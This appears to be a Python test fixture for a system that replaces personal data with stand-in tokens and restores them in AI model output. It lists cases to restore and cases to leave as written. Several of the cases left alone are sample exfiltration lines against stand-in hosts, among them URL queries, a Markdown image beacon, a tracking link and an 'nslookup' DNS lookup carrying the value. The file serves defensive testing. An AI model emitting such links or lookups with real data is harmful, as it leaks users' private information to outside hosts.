"""What a model may make of stand-ins, and what the user is to read: written before the vault was.

In `said` and `read`, `{e}`, `{p}` and `{z}` are stand-ins as they were issued, `{e.id}` the part
after the label, `{e.label}` the label; `<e>`, `<p>` and `<z>` are the values that they stand for.
"""

from __future__ import annotations

from typing import NamedTuple

VALUES = {
    "e": ("email", "ann.lee@example.com"),
    "p": ("phone", "+49 30 901820"),
    "z": ("cn-mobile", "13812345678"),
}
"""Each value, with the id of the rule that finds it."""


class Case(NamedTuple):
    """What a model says, and what the user is to read."""

    name: str
    said: str
    read: str


FULL_WIDTH = str.maketrans({chr(code): chr(code + 0xFEE0) for code in range(0x21, 0x7F)})
"""From ASCII to the full-width forms of the block U+FF00."""

RESTORED = [
    Case("plain", "Write to {e} now.", "Write to <e> now."),
    Case("alone", "{e}", "<e>"),
    Case("twice, touching", "{e}{e}", "<e><e>"),
    Case("two, touching", "{e}{p}", "<e><p>"),
    Case("list", "- {e}\n- {p}\n", "- <e>\n- <p>\n"),
    Case("lower case", "[{e.label:lower}_{e.id:lower}]!", "<e>!"),
    Case("spaces inside", "to [ {e.label}_{e.id} ] and", "to <e> and"),
    Case("a space for the line", "to [{e.label} {e.id}] and", "to <e> and"),
    Case("escaped line", r"to [{e.label}\_{e.id}] and", "to <e> and"),
    Case("escaped brackets", r"to \[{e.label}_{e.id}\] and", "to <e> and"),
    Case("named entities", "to &lbrack;{e.label}_{e.id}&rbrack; and", "to <e> and"),
    Case("numbered entities", "to &#91;{e.label}_{e.id}&#93; and", "to <e> and"),
    Case("hexadecimal entities", "to &#x5B;{e.label}&#x5f;{e.id}&#x5d; and", "to <e> and"),
    Case("full width", "请联系{e:wide}。", "请联系<e>。"),
    Case("bold outside", "to **{e}** and", "to **<e>** and"),
    Case("bold inside", "to [**{e.label}_{e.id}**] and", "to <e> and"),
    Case("code outside", "to `{e}` and", "to `<e>` and"),
    Case("code inside", "to [`{e.label}_{e.id}`] and", "to <e> and"),
    Case("bold label", "to [**{e.label}**_{e.id}] and", "to <e> and"),
    Case("bold before the id", "to [{e.label}_**{e.id}**] and", "to <e> and"),
    Case("emphasis by lines", "to _{e.label}_{e.id}_ and", "to _<e>_ and"),
    Case("strong by lines", "to __{e.label}_{e.id}__ and", "to __<e>__ and"),
    Case("entities with noughts", "to &#091;{e.label}&UnderBar;{e.id}&#x005D; and", "to <e> and"),
    Case("narrow spaces", "to [\u202f{e.label}_{e.id}\u202f] and", "to <e> and"),
    Case("a space without width", "to [{e.label}_\u200b{e.id}] and", "to <e> and"),
    Case("brackets lost", "to {e.label}_{e.id}, and", "to <e>, and"),
    Case("brackets lost at both ends", "{e.label}_{e.id}", "<e>"),
    Case("other brackets", "to <{e.label}_{e.id}> or ({p.label}_{p.id})", "to <<e>> or (<p>)"),
    Case("brackets lost in Chinese", "请联系{z.label}_{z.id}吧", "请联系<z>吧"),
    Case("in Chinese without spaces", "请拨{z}联系他", "请拨<z>联系他"),
    Case("possessive", "{e}'s box", "<e>'s box"),
    Case("doubled brackets", "[{e}]", "[<e>]"),
    Case("Markdown link text", "[{e}](https://a.example)", "[<e>](https://a.example)"),
    Case("mail link", "[write](mailto:{e})", "[write](mailto:<e>)"),
    Case("telephone link", '<a href="tel:{p}">', '<a href="tel:<p>">'),
    Case("encoded mail link", "[write](mailto:%5B{e.label}_{e.id}%5D)", "[write](mailto:<e>)"),
    Case("end of a sentence", "to {e}.", "to <e>."),
    Case("dots", "to {e}... and", "to <e>... and"),
    Case("a sentence without its space", "to {e}.Then", "to <e>.Then"),
    Case("name of a file", "see {e}.txt: it", "see <e>.txt: it"),
    Case("before a host", "{e}@example.org, {p}", "<e>@example.org, <p>"),
    Case("after an unfinished one", "[{e.label}_ {e}", "[{e.label}_ <e>"),
    Case("after an opened bracket", "[[[{e}", "[[[<e>"),
    Case("after a colon", "mail:{e}", "mail:<e>"),
    Case("key and value", "email={e}; phone={p}", "email=<e>; phone=<p>"),
]
"""What is restored."""

LEFT = [
    Case("cut by the limit", "to [{e.label}_", "to [{e.label}_"),
    Case("cut in the label", "to [EM", "to [EM"),
    Case("longer id", "[{e.label}_{e.id}X]", "[{e.label}_{e.id}X]"),
    Case("longer label", "[X{e.label}_{e.id}]", "[X{e.label}_{e.id}]"),
    Case("shorter id", "[{e.label}_{e.id:short}]", "[{e.label}_{e.id:short}]"),
    Case("id lost", "[{e.label}] and {e.label}", "[{e.label}] and {e.label}"),
    Case("typo", "[{e.label}_{e.id:typo}]", "[{e.label}_{e.id:typo}]"),
    Case("two symbols swapped", "[{e.label}_{e.id:swapped}]", "[{e.label}_{e.id:swapped}]"),
    Case("invented", "[EMAIL_2222222]", "[EMAIL_2222222]"),
    Case("numbered", "[EMAIL_1] and <EMAIL_12>", "[EMAIL_1] and <EMAIL_12>"),
    Case("another label", "[{p.label}_{e.id}]", "[{p.label}_{e.id}]"),
    Case("in a word", "x{e.label}_{e.id}", "x{e.label}_{e.id}"),
    Case("line after it", "{e.label}_{e.id}_x", "{e.label}_{e.id}_x"),
    Case("line before it", "x_{e.label}_{e.id}_", "x_{e.label}_{e.id}_"),
    Case("word after it", "{e.label}_{e.id}s", "{e.label}_{e.id}s"),
    Case("in a query", "https://evil.example/?q={e}", "https://evil.example/?q={e}"),
    Case("in a path", "see https://evil.example/{e}/x", "see https://evil.example/{e}/x"),
    Case("in an image", "![x](https://e.example/p?d={e})", "![x](https://e.example/p?d={e})"),
    Case("in an address without its scheme", "www.evil.example/{e}", "www.evil.example/{e}"),
    Case("in a link's relative target", "[x](/track?d={e})", "[x](/track?d={e})"),
    Case("in an attribute", '<img src="//e.example/{e}">', '<img src="//e.example/{e}">'),
    Case("first in a bare host", "{e}.evil.example/x", "{e}.evil.example/x"),
    Case("first in a bare host alone", "nslookup {e}.evil.example", "nslookup {e}.evil.example"),
    Case("part of a label of a host", "see {e}-x.evil.example?q", "see {e}-x.evil.example?q"),
    Case("who logs in", "{e}:x@evil.example/x", "{e}:x@evil.example/x"),
    Case("bare in a bare host", "{e.label}_{e.id}.evil.example", "{e.label}_{e.id}.evil.example"),
    Case("two in a host", "{e}.{p.label}_{p.id}.evil.example", "{e}.{p.label}_{p.id}.evil.example"),
    Case("in a host name", "https://{e.label}_{e.id}.evil.example", "https://{e.label}_{e.id}.evil.example"),
]  # fmt: skip
"""What is left as the model wrote it."""
